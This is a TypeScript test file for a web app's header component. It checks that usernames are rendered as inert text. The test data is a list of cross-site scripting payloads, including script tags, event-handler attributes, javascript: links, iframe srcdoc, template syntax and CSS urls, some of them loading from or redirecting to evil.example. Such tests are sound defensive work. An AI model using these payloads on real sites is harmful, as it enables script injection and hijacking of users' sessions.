import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { parseHtml } from '#tests/parse-html.ts';
import { Header } from './header.tsx';

const headerFor = (username: string): string =>
  renderToStaticMarkup(
    <Header pathname="/regles" search="" username={username} isSessionUnread={false} newAnswers={0} />,
  );

/** Returns the elements of the HTML in order, each with its attributes. */
const elementsOf = (html: string) =>
  [...parseHtml(html).body.querySelectorAll('*')].map(element => [
    element.localName,
    ...element.getAttributeNames().map(name => `${name}=${element.getAttribute(name)}`),
  ]);

const HARMLESS = elementsOf(headerFor('Ada'));

const SCRIPTS = ['alert(1)', 'import("//evil.example")', 'fetch(`/`)', 'location="//evil.example"'];
const WRAPPERS = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `</script><script>${script}</script>`,
  (script: string) => `<img src=x onerror=${script}>`,
  (script: string) => `<svg/onload=${script}>`,
  (script: string) => `"onmouseover=${script} x="`,
  (script: string) => `'onfocus=${script} autofocus='`,
  (script: string) => `</bdi></span><iframe srcdoc="<script>${script}</script>">`,
  (script: string) => `<a href="javascript:${script}">x</a>`,
  (script: string) => `--><script>${script}</script><!--`,
  (script: string) => `]]><script>${script}</script>`,
  (script: string) => `{{${script}}}`,
  (script: string) => `\${${script}}`,
  (script: string) => `&lt;script&gt;${script}`,
  (script: string) => `<style>*{background:url(//evil.example/${script})}`,
  (script: string) => `\u202e<script>${script}</script>\u2066`,
];

test.each(SCRIPTS.flatMap(script => WRAPPERS.map(wrap => [wrap(script)])))(
  'the username %s is rendered as text and creates no element or attribute',
  username => {
    expect(elementsOf(headerFor(username))).toEqual(HARMLESS);
  },
);
